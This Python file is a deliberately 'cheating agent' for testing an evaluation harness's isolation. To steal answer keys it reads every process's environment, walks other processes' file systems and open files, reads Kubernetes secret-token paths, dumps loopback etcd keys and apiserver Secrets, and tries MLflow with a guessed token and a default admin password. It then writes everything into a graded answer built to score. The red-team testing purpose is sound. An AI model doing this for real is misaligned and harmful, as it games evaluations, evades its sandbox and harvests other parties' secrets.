"""A cheating agent for the trust-boundary tests: it looks everywhere it can for the answer key.

Usage: python cheater.py [SECONDS] — runs in the ticket's workspace like any agent and writes answer.md.
In order, within SECONDS (default 60) of searching:
  1. every environment variable, its own and (where readable) every other process's;
  2. every path named in a readable process's command line or environment (a suite directory, say), its
     own ancestors' first: the cheapest lead, so it comes before the broad sweeps;
  3. every file under every mount point of its mount namespace (/proc/self/mountinfo): on a busy host
     (container storage, many mounts) this alone can take the whole budget;
  4. other processes' root file systems, working directories and open files (/proc/PID/root, cwd, fd),
     every root that is not its own walked whole; service-account tokens where Kubernetes mounts them;
  5. every TCP port listening on loopback (/proc/net/tcp, tcp6), asked over HTTP and HTTPS for what an
     etcd (/v3/kv/range of every key), an apiserver (ConfigMaps, Secrets) or any web server would give;
     one that answers like MLflow (/health) is asked first, before any file walk, for its experiments,
     runs, traces and each run's result.json and report.html: anonymously, with a guessed bearer token and
     with the admin password MLflow once shipped with;
  6. the folders above its workspace, then the whole file system from /.
It reads every regular file it can (up to 1 MiB) and copies into its answer every file that looks like
an answer key (YAML/JSON text with mustMention, forbidden, notes, keys, shouldAbstain...), every
environment value, and a short list of where it looked. It answers in the three sections the format judge
wants and cites every KB article id it saw, so that anything it found would score.
"""

from __future__ import annotations

import base64
import http.client
import json
import os
import re
import signal
import ssl
import stat
import sys
import time
from pathlib import Path

# The shapes an answer key takes on disk: YAML keys or JSON fields of a ticket's key.
MARKERS = re.compile(
    r"^\s*(-\s*)?(mustMention|forbidden|shouldAbstain|notes|keys|key):|\"mustMention\"", re.MULTILINE
)
TEXT_SUFFIXES = {".yaml", ".yml", ".json", ".md", ".txt", ""}  # where keys live; not source code
SKIP_TOP = {"/proc", "/sys", "/dev"}
# Under any root it walks (its own or another process's), these hold kernel files, not keys: some reads
# there block for good (/proc/kmsg, tracing pipes), so they are skipped wherever a root has them.
PSEUDO_DIRS = {"proc", "sys", "dev"}
GRACE_SECONDS = 10.0  # past its budget, an alarm ends a search stuck in one read and the answer is written
MAX_BYTES = 1 << 20
MAX_FOUND = 400_000


class Search:
    def __init__(self, budget: float) -> None:
        self.deadline = time.monotonic() + budget
        self.seen: set[str] = set()
        self.found: list[str] = []
        self.size = 0
        self.files_read = 0
        self.articles: set[str] = set()
        self.mlflow: list[str] = []  # what the MLflow probe asked, as `port who path status`

    def out_of_time(self) -> bool:
        return time.monotonic() > self.deadline or self.size > MAX_FOUND

    def keep(self, label: str, text: str) -> None:
        if self.size > MAX_FOUND:
            return
        chunk = f"\n### {label}\n{text}\n"
        self.found.append(chunk)
        self.size += len(chunk)

    def read_file(self, path: str) -> None:
        if path in self.seen or os.path.splitext(path)[1] not in TEXT_SUFFIXES:
            return
        self.seen.add(path)
        try:
            found = os.stat(path)
            # Empty by size is how kernel files (procfs) look; a key file has bytes in it.
            if not stat.S_ISREG(found.st_mode) or not 0 < found.st_size <= MAX_BYTES:
                return
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            with os.fdopen(descriptor, "rb") as stream:
                data = stream.read(MAX_BYTES) or b""
        except OSError:
            return
        self.files_read += 1
        if b"\0" in data[:4096]:
            return
        text = data.decode("utf-8", errors="replace")
        self.articles.update(re.findall(r"\bKB-\d{3,5}\b", text))
        if MARKERS.search(text):
            self.keep(f"file {path}", text[:20_000])

    def walk(self, top: str) -> None:
        for root, dirs, files in os.walk(top, onerror=lambda error: None):
            if self.out_of_time():
                return
            if root == "/":
                dirs[:] = [d for d in dirs if f"/{d}" not in SKIP_TOP]
            elif os.path.normpath(root) == os.path.normpath(top) and top.startswith("/proc/"):
                dirs[:] = [d for d in dirs if d not in PSEUDO_DIRS]  # another process's root
            for name in files:
                self.read_file(os.path.join(root, name))


def pids_listed() -> list[str]:
    """/proc's entries (none where a sandbox refuses the listing: the search goes on elsewhere)."""
    try:
        return os.listdir("/proc")
    except OSError:
        return []


def environments() -> dict[str, str]:
    found = {f"self:{k}": v for k, v in os.environ.items()}
    for pid in (p for p in pids_listed() if p.isdigit()):
        try:
            raw = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        for item in raw.split(b"\0"):
            key, sep, value = item.decode(errors="replace").partition("=")
            if sep:
                found[f"{pid}:{key}"] = value
    return found


def mount_points() -> list[str]:
    points = []
    try:
        lines = Path("/proc/self/mountinfo").read_text().splitlines()
    except OSError:
        return []
    for line in lines:
        fields = line.split()
        if len(fields) > 4 and not any(fields[4].startswith(s) for s in SKIP_TOP):
            points.append(fields[4])
    return points


def _parents() -> list[str]:
    """Its own ancestors first (the runner that started it names the suite), then every other process."""
    chain, pid = [], os.getppid()
    while pid > 1:
        chain.append(str(pid))
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    others = sorted(p for p in pids_listed() if p.isdigit() and p not in chain)
    return chain + others


def named_paths() -> list[str]:
    paths: dict[str, None] = {}
    for pid in _parents():
        for source in ("cmdline", "environ"):
            try:
                raw = Path(f"/proc/{pid}/{source}").read_bytes().decode(errors="replace")
            except OSError:
                continue
            paths.update(dict.fromkeys(re.findall(r"(/[\w.@+-]+(?:/[\w.@+-]+)+)", raw)))
    return [p for p in paths if os.path.exists(p)]


def processes() -> dict[str, str]:
    """Every process it can see: pid -> command line."""
    seen = {}
    for pid in sorted((p for p in pids_listed() if p.isdigit()), key=int):
        try:
            seen[pid] = (
                Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            )
        except OSError:
            continue
    return seen


def other_roots(search: Search, pids: list[str]) -> list[str]:
    """Walk each process's root file system that is not its own, its working directory, its open files."""
    own = os.stat("/")
    walked = []
    for pid in pids:
        if search.out_of_time():
            break
        root = f"/proc/{pid}/root"
        try:
            found = os.stat(root)
        except OSError:
            continue
        if (found.st_dev, found.st_ino) != (own.st_dev, own.st_ino):
            walked.append(root)
            search.walk(root)
        for place in (f"/proc/{pid}/cwd",):
            if os.path.isdir(place):
                search.walk(place)
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                search.read_file(os.path.realpath(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            continue
    return walked


TOKEN_PLACES = ("/var/run/secrets", "/run/secrets", "/etc/assay/secrets")


def listening_ports() -> list[int]:
    ports: set[int] = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def _ask(port: int, secure: bool, method: str, path: str, body: bytes | None = None) -> str:
    connection: http.client.HTTPConnection
    if secure:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        connection = http.client.HTTPSConnection("127.0.0.1", port, timeout=0.5, context=context)
    else:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=0.5)
    try:
        headers = {"Content-Type": "application/json"} if body else {}
        connection.request(method, path, body=body, headers=headers)
        return connection.getresponse().read(MAX_BYTES).decode(errors="replace")
    finally:
        connection.close()


def _etcd_values(reply: str) -> str:
    """etcd's JSON gateway base64-encodes keys and values: decode them (the objects are protobuf, whose
    strings read as text)."""
    try:
        kvs = json.loads(reply).get("kvs") or []
        return "\n".join(base64.b64decode(kv.get("value", "")).decode(errors="replace") for kv in kvs)
    except (ValueError, AttributeError, TypeError):
        return ""


# How the MLflow cheater knocks: no credential, a guessed bearer token, MLflow's old default admin login.
MLFLOW_GUESSES = {
    "anonymous": {},
    "bearer": {"Authorization": "Bearer guessed"},
    "admin:password1234": {"Authorization": "Basic " + base64.b64encode(b"admin:password1234").decode()},
}


def _mlflow_call(port: int, method: str, path: str, body: object, headers: dict[str, str]) -> tuple[int, str]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
    try:
        data = json.dumps(body).encode() if body is not None else None
        connection.request(method, path, body=data, headers={"Content-Type": "application/json", **headers})
        reply = connection.getresponse()
        return reply.status, reply.read(MAX_BYTES).decode(errors="replace")
    finally:
        connection.close()


def probe_mlflow(search: Search) -> list[str]:
    """Every loopback listener that answers MLflow's /health "OK" is asked for its experiments, their runs and
    traces, and each run's artifacts, with each of MLFLOW_GUESSES. Returns `port who path status` for every
    call, and keeps every reply that holds an answer key."""
    seen: list[str] = []
    for port in listening_ports():
        try:
            if _mlflow_call(port, "GET", "/health", None, {})[1].strip() != "OK":
                continue
        except (OSError, http.client.HTTPException, ValueError):
            continue
        for who in MLFLOW_GUESSES:
            knock = MlflowKnock(search, seen, port, who)
            found = knock.ask("GET", "/api/2.0/mlflow/experiments/search?max_results=1000")
            experiments = [str(e["experiment_id"]) for e in _json(found).get("experiments", [])] or [
                "0",
                "1",
                "2",
            ]
            searched = knock.ask("POST", "/api/2.0/mlflow/runs/search", {"experiment_ids": experiments})
            knock.ask("GET", "/api/2.0/mlflow/traces?experiment_ids=" + "&experiment_ids=".join(experiments))
            locations = [
                {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": e}} for e in experiments
            ]
            knock.ask("POST", "/api/3.0/mlflow/traces/search", {"locations": locations})
            for run in _json(searched).get("runs", []):
                info = run.get("info")
                run_id = info.get("run_id", "") if isinstance(info, dict) else ""
                for artifact in ("result.json", "report.html"):
                    knock.ask("GET", f"/get-artifact?path={artifact}&run_uuid={run_id}")
    return seen


class MlflowKnock:
    """One guess at one MLflow server: each call is noted, and a reply holding a key is kept."""

    def __init__(self, search: Search, seen: list[str], port: int, who: str) -> None:
        self.search, self.seen, self.port, self.who = search, seen, port, who

    def ask(self, method: str, path: str, body: object = None) -> str:
        try:
            status, text = _mlflow_call(self.port, method, path, body, MLFLOW_GUESSES[self.who])
        except (OSError, http.client.HTTPException, ValueError):
            return ""
        self.seen.append(f"{self.port} {self.who} {path.split('?', maxsplit=1)[0]} {status}")
        if MARKERS.search(text) or "mustMention" in text or "answer_key" in text:
            self.search.keep(f"mlflow {self.port} {self.who} {path}", text[:20_000])
        return text if status == 200 else ""


def _json(text: str) -> dict[str, list[dict[str, object]]]:
    try:
        found = json.loads(text)
    except ValueError:
        return {}
    return found if isinstance(found, dict) else {}


def probe_network(search: Search) -> list[str]:
    """Ask every loopback listener for keys: all of etcd's keys, the apiserver's ConfigMaps and Secrets,
    whatever a web server serves at /. Keeps any reply that looks like an answer key."""
    every_key = json.dumps(
        {"key": base64.b64encode(b"\0").decode(), "range_end": base64.b64encode(b"\0").decode()}
    )
    asked = []
    for port in listening_ports():
        for secure in (False, True):
            for method, path, body in (
                ("POST", "/v3/kv/range", every_key.encode()),
                ("GET", "/api/v1/configmaps", None),
                ("GET", "/api/v1/secrets", None),
                ("GET", "/", None),
            ):
                if search.out_of_time():
                    return asked
                try:
                    reply = _ask(port, secure, method, path, body)
                except (OSError, http.client.HTTPException, ValueError):
                    continue
                asked.append(f"{'https' if secure else 'http'}:{port}{path}")
                reply = _etcd_values(reply) or reply
                if MARKERS.search(reply) or "keys.yaml" in reply:
                    search.keep(f"port {port} {path}", reply[:20_000])
    return asked


class OutOfTime(Exception):
    pass


def _give_up(signum: int, frame: object) -> None:
    raise OutOfTime


def main() -> int:
    budget = float(sys.argv[1]) if len(sys.argv) > 1 else 60.0
    search = Search(budget)
    env = "\n".join(f"{k}={v}" for k, v in sorted(environments().items()))
    signal.signal(signal.SIGALRM, _give_up)
    signal.alarm(int(budget + GRACE_SECONDS))
    try:
        return search_and_answer(search, env)
    except OutOfTime:
        search.keep("stopped", "a read outlasted the budget: answering with what was found")
        return answer(search, env, [], {}, [], [])


def search_and_answer(search: Search, env: str) -> int:
    search.mlflow = probe_mlflow(search)
    for path in named_paths():
        if os.path.isdir(path):
            search.walk(path)
        else:
            search.read_file(path)
    mounts = mount_points()
    for point in [m for m in mounts if m != "/"]:
        search.walk(point)
    seen = processes()
    roots = other_roots(search, [pid for pid in seen if pid != str(os.getpid())])
    for place in TOKEN_PLACES:
        search.walk(place)
    asked = probe_network(search)
    here = Path.cwd()
    for parent in here.parents:
        if str(parent) != "/":
            search.walk(str(parent))
    search.walk("/")
    signal.alarm(0)
    return answer(search, env, mounts, seen, roots, asked)


def answer(
    search: Search, env: str, mounts: list[str], seen: dict[str, str], roots: list[str], asked: list[str]
) -> int:
    shown = " | ".join(f"{pid}: {command[:80]}" for pid, command in seen.items())
    where = (
        f"mounts: {' '.join(mounts)}\nprocesses: {len(seen)}: {shown}\nother roots: {' '.join(roots)}\n"
        f"asked: {' '.join(asked)}\nmlflow: {'; '.join(search.mlflow)}\nfiles read: {search.files_read}; "
        f"{'out of time' if search.out_of_time() else 'searched everything'}"
    )
    cites = " ".join(f"[{a}]" for a in sorted(search.articles))
    Path("answer.md").write_text(
        f"## Summary\nEverything I could find {cites}.\n\n## Steps\n1. Read it below.\n\n## Next\n{where}\n"
        + "".join(search.found)
        + f"\n### environments\n{env[:100_000]}\n",
        encoding="utf-8",
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
